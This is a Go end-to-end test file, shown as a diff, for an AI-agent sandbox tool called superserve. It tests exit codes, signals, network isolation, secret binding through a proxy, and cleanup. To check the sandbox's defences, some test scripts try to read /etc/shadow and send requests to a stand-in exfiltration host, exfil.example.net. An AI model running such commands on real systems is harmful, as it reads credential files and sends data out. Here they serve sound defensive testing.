@@ -1,0 +1,297 @@
+//go:build e2e
+
+package e2e
+
+import (
+	"context"
+	"io"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+)
+
+// agentProject is an agent without secrets that runs a shell script.
+func agentProject(t testing.TB, script string, yaml ...string) string {
+	t.Helper()
+	return project(t, map[string]string{
+		"superserve.yaml": "name: plain\ncommand: sh main.sh\n" + strings.Join(yaml, "\n"),
+		"main.sh":         script,
+	})
+}
+
+func TestRunPassesTheAgentThrough(t *testing.T) {
+	w := newWorld(t, "api.openai.com")
+	tests := []struct {
+		name, script string
+		flags        []string
+		code         int
+		stdout       string
+	}{
+		{"its exit code", "exit 7", nil, 7, ""},
+		{"a death by signal", "kill -TERM $$", nil, 143, ""},
+		{"its output", "echo out; echo err >&2", nil, 0, "out\n"},
+		{"a sandbox's identity", "echo $IS_SANDBOX $HOME $PWD; touch $HOME/x /tmp/x /workspace/x && echo writable", nil, 0, "1 /home/agent /workspace\nwritable\n"},
+		{"variables", "echo $A", []string{"--env", "A=b c"}, 0, "b c\n"},
+		{"no host files", "ls /root /var/lib 2>/dev/null; cat /etc/shadow 2>/dev/null; echo end", nil, 0, "end\n"},
+		{"nothing to a network of none", "curl -sS -m 5 https://api.openai.com/ 2>/dev/null || echo none", []string{"--network", "none"}, 0, "none\n"},
+	}
+	for _, tt := range tests {
+		t.Run("it passes "+tt.name, func(t *testing.T) {
+			r := w.run(agentProjectAt(t, w, tt.script), tt.flags...)
+			if r.code != tt.code || r.stdout != tt.stdout {
+				t.Errorf("exit %d, stdout %q; want %d, %q\nstderr: %s", r.code, r.stdout, tt.code, tt.stdout, r.stderr)
+			}
+		})
+	}
+}
+
+// agentProjectAt always writes to the same folder, since an agent of one name comes from one place.
+func agentProjectAt(t testing.TB, w *world, script string, yaml ...string) string {
+	t.Helper()
+	dir := filepath.Join(w.state, "src")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	text := "name: plain\ncommand: sh main.sh\n" + strings.Join(yaml, "\n")
+	for name, text := range map[string]string{"superserve.yaml": text, "main.sh": script} {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return dir
+}
+
+func TestRunReadsStandardInput(t *testing.T) {
+	w := newWorld(t, "api.openai.com")
+	r := w.superserve("from outside\n", "run", agentProject(t, "cat"))
+	if r.code != 0 || r.stdout != "from outside\n" {
+		t.Errorf("exit %d, stdout %q\nstderr: %s", r.code, r.stdout, r.stderr)
+	}
+}
+
+func TestRunGivesArguments(t *testing.T) {
+	w := newWorld(t, "api.openai.com")
+	r := w.superserve("", "run", agentProject(t, `printf '%s|' "$@"`), "--", "a b", "-c", "*")
+	if r.code != 0 || r.stdout != "a b|-c|*|" {
+		t.Errorf("exit %d, stdout %q\nstderr: %s", r.code, r.stdout, r.stderr)
+	}
+}
+
+func TestRunFaults(t *testing.T) {
+	w := newWorld(t, "api.openai.com")
+	tests := []struct {
+		name   string
+		yaml   string
+		flags  []string
+		code   int
+		stderr string
+	}{
+		{"a command that is not there", "name: faulty\ncommand: no-such-command\n", nil, 127, "no-such-command"},
+		{"a time that is up", "name: faulty\ncommand: sleep 60\n", []string{"--timeout", "1s"}, 125, "time"},
+		{"a network mode", "name: faulty\ncommand: 'true'\n", []string{"--network", "open"}, 1, "none, bound or public"},
+		{"a secret that is not set", "name: faulty\ncommand: 'true'\nsecrets: [A_KEY, B_KEY]\n", nil, 1,
+			"Error: Missing required secret(s): A_KEY, B_KEY\nSet them with:\n  superserve secrets set faulty A_KEY=... B_KEY=...\n"},
+	}
+	for _, tt := range tests {
+		t.Run("it reports "+tt.name, func(t *testing.T) {
+			dir := filepath.Join(w.state, "src")
+			if err := os.MkdirAll(dir, 0o755); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.WriteFile(filepath.Join(dir, "superserve.yaml"), []byte(tt.yaml), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			r := w.run(dir, tt.flags...)
+			if r.code != tt.code || !strings.Contains(r.stderr, tt.stderr) || r.stdout != "" {
+				t.Errorf("exit %d, want %d and %q\nstdout: %s\nstderr: %s", r.code, tt.code, tt.stderr, r.stdout, r.stderr)
+			}
+		})
+	}
+}
+
+// TestRefusedDestinationsAreReadable shows that an agent and its user both learn what was refused.
+func TestRefusedDestinationsAreReadable(t *testing.T) {
+	w := newWorld(t, "api.openai.com")
+	r := w.run(agentProject(t, `for i in 1 2 3; do curl -s https://exfil.example.net/x?d=1; done`, "network: {allow: []}\n"))
+	if !strings.Contains(r.stdout, "exfil.example.net") || !strings.Contains(r.stdout, "{") {
+		t.Errorf("the agent read %q, want a refusal in JSON", r.stdout)
+	}
+	if n := strings.Count(r.stderr, "exfil.example.net"); n != 1 {
+		t.Errorf("the refusal is said %d times on stderr, want once:\n%s", n, r.stderr)
+	}
+	if n := len(w.requests()); n != 0 {
+		t.Errorf("%d requests arrived", n)
+	}
+}
+
+// TestUnboundSecretGoesNowhere shows that a key without a host stays with secretd.
+func TestUnboundSecretGoesNowhere(t *testing.T) {
+	w := newWorld(t, "api.example.com")
+	const key = "tok-Zk3yRealRealRealRealReal0004"
+	w.set("plain", "MY_TOKEN", key)
+	dir := agentProject(t, `curl -s -H "Authorization: Bearer $MY_TOKEN" https://api.example.com/echo`, "secrets: [MY_TOKEN]\n")
+	r := w.run(dir)
+	if !strings.Contains(r.stderr, "superserve secrets bind plain MY_TOKEN --host HOST") {
+		t.Errorf("stderr has no advice to bind:\n%s", r.stderr)
+	}
+	for _, req := range w.requests() {
+		if strings.Contains(req.Header.Get("Authorization"), key) {
+			t.Error("the unbound key arrived upstream")
+		}
+	}
+	if r := w.superserve("", "secrets", "bind", "plain", "MY_TOKEN", "--host", "api.example.com"); r.code != 0 {
+		t.Fatalf("bind: %s", r.stderr)
+	}
+	r = w.run(dir)
+	reqs := w.requests()
+	if n := len(reqs); n == 0 || reqs[n-1].Header.Get("Authorization") != "Bearer "+key {
+		t.Errorf("after bind the upstream saw %+v\nstderr: %s", reqs, r.stderr)
+	}
+	w.wantClean(t, "stdout", r.stdout)
+}
+
+// TestExposedSecretIsSaidLoudly shows the one way in which an agent gets a real value.
+func TestExposedSecretIsSaidLoudly(t *testing.T) {
+	w := newWorld(t, "api.example.com")
+	w.set("plain", "RAW_KEY", "raw-Zk3yRealRealRealRealReal0005")
+	r := w.run(agentProject(t, `echo "$RAW_KEY"`, "secrets: [{name: RAW_KEY, expose: true}]\n"))
+	if r.stdout != "raw-Zk3yRealRealRealRealReal0005\n" || !strings.Contains(r.stderr, "WARNING") || !strings.Contains(r.stderr, "RAW_KEY") {
+		t.Errorf("stdout %q\nstderr: %s", r.stdout, r.stderr)
+	}
+}
+
+// background starts a run whose agent says "ready" and waits for it.
+func (w *world) background(t *testing.T, dir string, flags ...string) (kill func(os.Signal), wait func() result) {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), patience)
+	args := append(append([]string{"run"}, w.runFlags()...), append(flags, dir)...)
+	cmd := w.command(ctx, args...)
+	var errs strings.Builder
+	cmd.Stderr = &errs
+	out, err := cmd.StdoutPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { cancel(); cmd.Wait() })
+	head := make([]byte, len("ready\n"))
+	if _, err := io.ReadFull(out, head); err != nil || string(head) != "ready\n" {
+		cmd.Wait()
+		t.Fatalf("the agent said %q: %v\nstderr: %s", head, err, errs.String())
+	}
+	return func(s os.Signal) { cmd.Process.Signal(s) }, func() result {
+		rest, _ := io.ReadAll(out)
+		cmd.Wait()
+		return result{string(rest), errs.String(), cmd.ProcessState.ExitCode()}
+	}
+}
+
+func TestSignalsReachTheAgent(t *testing.T) {
+	w := newWorld(t, "api.example.com")
+	kill, wait := w.background(t, agentProject(t, `trap 'echo caught; exit 9' TERM; echo ready; while :; do sleep 0.1; done`))
+	kill(syscall.SIGTERM)
+	if r := wait(); r.code != 9 || r.stdout != "caught\n" {
+		t.Errorf("exit %d, stdout %q\nstderr: %s", r.code, r.stdout, r.stderr)
+	}
+}
+
+func TestInterruptEndsTheRun(t *testing.T) {
+	w := newWorld(t, "api.example.com")
+	kill, wait := w.background(t, agentProject(t, `echo ready; sleep 1000`))
+	kill(os.Interrupt)
+	if r := wait(); r.code != 130 {
+		t.Errorf("exit %d, want 130\nstderr: %s", r.code, r.stderr)
+	}
+}
+
+func TestPsLogsAndStop(t *testing.T) {
+	w := newWorld(t, "api.example.com")
+	_, wait := w.background(t, agentProject(t, `echo ready; sleep 1000`))
+	ps := w.superserve("", "ps")
+	id := regexp.MustCompile(`(?m)^(\S+)\s+plain\s+running`).FindStringSubmatch(ps.stdout)
+	if id == nil {
+		t.Fatalf("ps shows no running plain:\n%s%s", ps.stdout, ps.stderr)
+	}
+	if r := w.superserve("", "stop", id[1]); r.code != 0 {
+		t.Errorf("stop: exit %d: %s", r.code, r.stderr)
+	}
+	wait()
+	if ps := w.superserve("", "ps"); strings.Contains(ps.stdout, id[1]) {
+		t.Errorf("ps still shows %s:\n%s", id[1], ps.stdout)
+	}
+	if r := w.superserve("", "logs", id[1]); r.code != 0 || r.stdout != "ready\n" {
+		t.Errorf("logs: exit %d, %q: %s", r.code, r.stdout, r.stderr)
+	}
+}
+
+// TestRunLeavesNothing counts what a run could leave: processes, mounts and cgroups.
+func TestRunLeavesNothing(t *testing.T) {
+	w := newWorld(t, "api.example.com")
+	w.run(agentProject(t, "true")) // starts secretd, which stays
+	before := traces(t)
+	for _, ending := range []os.Signal{syscall.SIGTERM, os.Interrupt, syscall.SIGKILL} {
+		kill, wait := w.background(t, agentProjectAt(t, w, `echo ready; read x`), "--env", "N=1")
+		kill(ending)
+		wait()
+		if ending == syscall.SIGKILL {
+			w.superserve("", "ps") // the next start of any command that sweeps
+			w.run(agentProjectAt(t, w, "true"))
+		}
+		deadline := time.Now().Add(10 * time.Second)
+		for traces(t) != before {
+			if time.Now().After(deadline) {
+				t.Fatalf("after %v there is\n%s\nbefore there was\n%s", ending, traces(t), before)
+			}
+			time.Sleep(20 * time.Millisecond)
+		}
+	}
+}
+
+// traces lists what belongs to superserve on this machine, but for secretd.
+func traces(t *testing.T) string {
+	t.Helper()
+	var all []string
+	for _, id := range processes() {
+		if line := commandLine(id); strings.Contains(line, "runsc") || strings.Contains(line, "superserve proxy") || strings.Contains(line, "superserve run") {
+			all = append(all, line)
+		}
+	}
+	mounts, err := os.ReadFile("/proc/self/mountinfo")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for line := range strings.Lines(string(mounts)) {
+		if strings.Contains(line, "/ss") || strings.Contains(line, "runsc") || strings.Contains(line, "superserve") {
+			all = append(all, line)
+		}
+	}
+	leaves, _ := filepath.Glob("/sys/fs/cgroup/*/superserve/*")
+	more, _ := filepath.Glob("/sys/fs/cgroup/superserve/*/")
+	return strings.Join(append(append(all, leaves...), more...), "\n")
+}
+
+// TestKeyIsInNoOtherProcess looks into the memory of every process of a run while the upstream has the
+// key and the agent waits for the answer: only the proxy and secretd may hold it.
+func TestKeyIsInNoOtherProcess(t *testing.T) {
+	w := newWorld(t, "api.openai.com")
+	w.set("plain", "OPENAI_API_KEY", openaiKey)
+	var guilty []string
+	scanned := 0
+	w.during = func() { guilty, scanned = scanMemory(openaiKey) }
+	r := w.run(agentProject(t, `curl -s -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/echo`, "secrets: [OPENAI_API_KEY]\n"))
+	if r.code != 0 || len(w.requests()) != 1 || w.requests()[0].Header.Get("Authorization") != "Bearer "+openaiKey {
+		t.Fatalf("exit %d, requests %+v\nstderr: %s", r.code, w.requests(), r.stderr)
+	}
+	if scanned < 3 {
+		t.Errorf("looked into %d processes, want the supervisor, the sentry and the gofer at least", scanned)
+	}
+	for _, g := range guilty {
+		t.Errorf("holds the key: %s", g)
+	}
+}
